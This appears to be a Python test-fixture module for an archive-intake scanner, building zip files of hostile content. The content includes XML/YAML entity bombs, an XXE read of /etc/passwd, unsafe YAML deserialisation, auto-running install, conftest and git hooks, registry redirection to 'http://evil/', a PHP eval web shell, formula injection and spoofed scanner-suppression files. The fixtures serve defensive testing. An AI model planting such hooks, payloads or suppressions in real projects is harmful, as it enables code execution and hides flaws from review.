"""Sound archives whose content is dangerous to parsers and scanners, not to intake."""

from collections.abc import Mapping
from functools import partial

from tests.hostile.intake.corpus.case import Case, accept, warn
from tests.hostile.intake.corpus.zip_writer import Entry, build

_PWN = b"open('/tmp/PWNED','w')\n"
_LAUGHS = b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(
    b"%c: &%c [%s]\n" % (98 + i, 98 + i, b",".join([b"*%c" % (97 + i)] * 9)) for i in range(9)
)
_ENTITIES = b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9))

_FILES: Mapping[str, Mapping[str, bytes]] = {
    "deep-json": {"composer.json": b"[" * 200000 + b"]" * 200000,
                  "package.json": b'{"a":' * 100000 + b"1" + b"}" * 100000},
    "yaml-laughs": {"openapi.yaml": _LAUGHS},
    "xml-laughs": {"pom.xml": b'<!DOCTYPE l [<!ENTITY a "lol">' + _ENTITIES
                              + b"]><project>&j;</project>"},
    "xxe": {"AndroidManifest.xml": b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                   b"<manifest>&x;</manifest>"},
    "yaml-python": {"k8s.yml": b"!!python/object/apply:os.system ['touch /tmp/PWNED']\n"},
    "deep-parens": {"a.py": b"x=" + b"(" * 5000 + b")" * 5000 + b"\n", "b.js": b"[" * 50000},
    "redos": {"a.py": b"password = '" + b"a" * 100000 + b"!\n", "b.php": b"$" + b"_" * 100000},
    "int-bomb": {"a.py": b"x = 9**9**9\n", "b.json": b"1" * 100000},
    "nul-bytes": {"a.py": b"import os\0\nos.system('x')\n", "b.php": b"<?php \0 system(1);"},
    "utf16": {"a.py": "password='x'\n".encode("utf-16"),
              "b.php": "<?php eval($_GET[0]);".encode("utf-16")},
    "bad-coding": {"a.py": b"# -*- coding: rot13 -*-\ncnffjbeq = 1\n",
                   "b.py": b"# coding: utf-7\nx=1"},
    "trojan-source": {"a.js": "if (a != 'user\u202e \u2066// ok\u2069 \u2066') {}".encode()},
    "bandit-config": {".bandit": b"[bandit]\nskips: B602,B105\nexclude: /\n",
                      "pyproject.toml": b"[tool.bandit]\nskips=['B602']\n",
                      "a.py": b"import subprocess\nsubprocess.call(x, shell=True) # nosec\n"},
    "semgrep-ignore": {".semgrepignore": b"*\n", ".semgrep.yml": b"rules: []\n",
                       "a.py": b"eval(x) # nosemgrep\n"},
    "pip-conf": {"pip.conf": b"[global]\nindex-url=http://evil/\n",
                 "requirements.txt": b"--index-url http://evil/\n-e .\ngit+https://x/y\n"
                                     b"file:///etc/passwd\n",
                 "setup.py": b"import os;os.system('touch /tmp/PWNED')\n"},
    "npmrc": {".npmrc": b"registry=http://evil/\nscript-shell=/bin/evil\n",
              "package.json": b'{"scripts":{"preinstall":"touch /tmp/PWNED"}}',
              ".eslintrc.js": b"require('fs').writeFileSync('/tmp/PWNED','')"},
    "conftest": dict.fromkeys(("conftest.py", "sitecustomize.py", "yaml.py", "bandit/__init__.py", "yaml/__init__.py"), _PWN),
    "xss-snippet": {"a.py": b"password = '</script><script>alert(1)</script>'\n",
                    "README.md": b"![x](http://evil/t.png) [a](javascript:1)\n"
                                 b"=cmd|' /C calc'!A0\n"},
    "vet-policy-spoof": {"policies/default.yaml": b"checks: []\npass: true\n",
                         "vet.toml": b"pass=true\n", "report.json": b'{"status":"PASS"}'},
}  # fmt: skip
_HOOKS = {
    ".git/config": b"[core]\n\tfsmonitor = touch /tmp/PWNED\n\thooksPath = hooks\n",
    ".git/HEAD": b"ref: refs/heads/main\n",
    ".git/objects/.k": b"",
    ".git/refs/.k": b"",
    "hooks/post-checkout": b"#!/bin/sh\ntouch /tmp/PWNED\n",
}


def _zip(files: Mapping[str, bytes]) -> partial[bytes]:
    return partial(build, [Entry(f"app/{name}", data, 8) for name, data in files.items()])


CASES: tuple[Case, ...] = (
    warn("content-long-line.zip", _zip({"a.min.js": b"var a='" + b"A" * (4 << 20) + b"';"}),
         "ratio-entry"),
    *(accept(f"content-{name}.zip", _zip(files)) for name, files in _FILES.items()),
    warn("content-git-hooks.zip", _zip(_HOOKS), "vcs-metadata"),
)  # fmt: skip
